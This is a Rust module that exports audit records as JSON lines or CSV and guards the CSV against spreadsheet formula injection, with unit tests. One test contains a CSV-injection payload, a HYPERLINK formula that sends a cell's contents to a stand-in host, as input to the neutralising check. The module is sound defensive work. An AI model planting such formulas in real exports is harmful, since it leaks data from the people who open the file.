//! The audit export's two formats: JSON lines (one record per line, as the
//! API shows records) and CSV with a fixed header, for a spreadsheet.

use super::Record;
use crate::clock::rfc3339;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Jsonl,
    Csv,
}

impl Format {
    pub fn parse(s: &str) -> Option<Format> {
        match s {
            "jsonl" => Some(Format::Jsonl),
            "csv" => Some(Format::Csv),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Jsonl => "application/x-ndjson",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }

    /// One record in this format, with its line end.
    pub fn line(self, r: &Record) -> String {
        match self {
            Format::Jsonl => {
                let mut s = r.to_json().to_string();
                s.push('\n');
                s
            }
            Format::Csv => csv_line(r),
        }
    }
}

pub fn csv_header() -> &'static str {
    "seq,at,type,notification_id,user_id,socket_id,level,detail,prev_hash,hash\n"
}

/// Where a cell's text comes from, which decides whether a spreadsheet may
/// be allowed to read it as a formula.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Cell {
    /// Written by Herald in a fixed form: a number, a timestamp, a record
    /// type, a hash. Never starts with a formula character.
    Own,
    /// Text that came from outside (a backend's notification id, a user id
    /// from a URL or a token, a socket id, a detail): neutralised.
    Outside,
}

/// First characters that make Excel, LibreOffice Calc or Google Sheets
/// read a cell as a formula (OWASP "CSV Injection", plus ASVS's NUL and the
/// full-width forms some locales accept as the same signs).
const FORMULA_START: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The text a cell of outside text holds: a `'` before a value that starts
/// with a formula character, so that a spreadsheet shows it as text, the
/// OWASP way. A value that already starts with `'` gets one too, so that
/// dropping one leading `'` always gives the value back exactly.
pub fn neutralise(v: &str) -> std::borrow::Cow<'_, str> {
    if v.starts_with(FORMULA_START) || v.starts_with('\'') {
        format!("'{v}").into()
    } else {
        v.into()
    }
}

/// A CSV field, quoted when it holds a separator, a quote or a line end,
/// and always when it was neutralised (OWASP: a quoted cell that starts
/// with `'`).
fn field(out: &mut String, v: &str, cell: Cell) {
    let v = match cell {
        Cell::Own => v.into(),
        Cell::Outside => neutralise(v),
    };
    if v.contains([',', '"', '\n', '\r']) || v.starts_with('\'') {
        out.push('"');
        out.push_str(&v.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&v);
    }
}

pub fn csv_line(r: &Record) -> String {
    let e = &r.entry;
    let level = e.level.map(|l| l.to_string()).unwrap_or_default();
    let detail = e.detail.as_ref().map(|d| d.to_string()).unwrap_or_default();
    let text = |v: &Option<String>| v.clone().unwrap_or_default();
    let fields = [
        (r.seq.to_string(), Cell::Own),
        (rfc3339(e.at), Cell::Own),
        (e.kind.as_str().to_string(), Cell::Own),
        (text(&e.notification_id), Cell::Outside),
        (text(&e.user_id), Cell::Outside),
        (text(&e.socket_id), Cell::Outside),
        (level, Cell::Own),
        (detail, Cell::Outside),
        (r.prev_hash.clone(), Cell::Own),
        (r.hash.clone(), Cell::Own),
    ];
    let mut out = String::new();
    for (i, (v, cell)) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        field(&mut out, v, *cell);
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trail::{Chain, Entry, Kind};

    #[test]
    fn csv_quotes_what_needs_it_and_has_as_many_fields_as_the_header() {
        let r = Chain::default().append(
            Entry::new(Kind::WebhookFailed, 0)
                .notification("n")
                .detail(serde_json::json!({"error": "a, \"b\""})),
        );
        let line = csv_line(&r);
        assert!(line.contains(r#""{""error"":""a, \""b\""""}""#), "{line}");
        assert_eq!(csv_header().matches(',').count(), 9);
        assert_eq!(Format::parse("jsonl"), Some(Format::Jsonl));
        assert_eq!(Format::parse("xml"), None);
        let j: serde_json::Value = serde_json::from_str(Format::Jsonl.line(&r).trim()).unwrap();
        assert_eq!(j["type"], "webhook_failed");
    }

    #[test]
    fn csv_neutralises_outside_text_that_a_spreadsheet_would_run() {
        let user = r#"=HYPERLINK("http://x/?leak="&A1)"#;
        let r = Chain::default().append(
            Entry::new(Kind::Delivered, 0)
                .notification("-2+3")
                .user(user)
                .socket("@s")
                .level(2),
        );
        let line = csv_line(&r);
        let cells: Vec<&str> = line.trim_end().split(',').collect();
        // Herald's own cells stay as they are: a number stays a number.
        assert_eq!(cells[0], "1", "{line}");
        assert_eq!(cells[1], "1970-01-01T00:00:00.000Z", "{line}");
        assert_eq!(cells[6], "2", "{line}");
        // Outside text gets a `'` inside a quoted cell.
        assert_eq!(cells[3], "\"'-2+3\"", "{line}");
        assert_eq!(
            cells[4], r#""'=HYPERLINK(""http://x/?leak=""&A1)""#,
            "{line}"
        );
        assert_eq!(cells[5], "\"'@s\"", "{line}");
        for (raw, cell) in [
            ("+1", "'+1"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(raw), cell, "{raw:?}");
        }
        // JSON lines keep the value exactly.
        let j: serde_json::Value = serde_json::from_str(Format::Jsonl.line(&r).trim()).unwrap();
        assert_eq!(j["userId"], user);
        assert_eq!(j["notificationId"], "-2+3");
    }
}
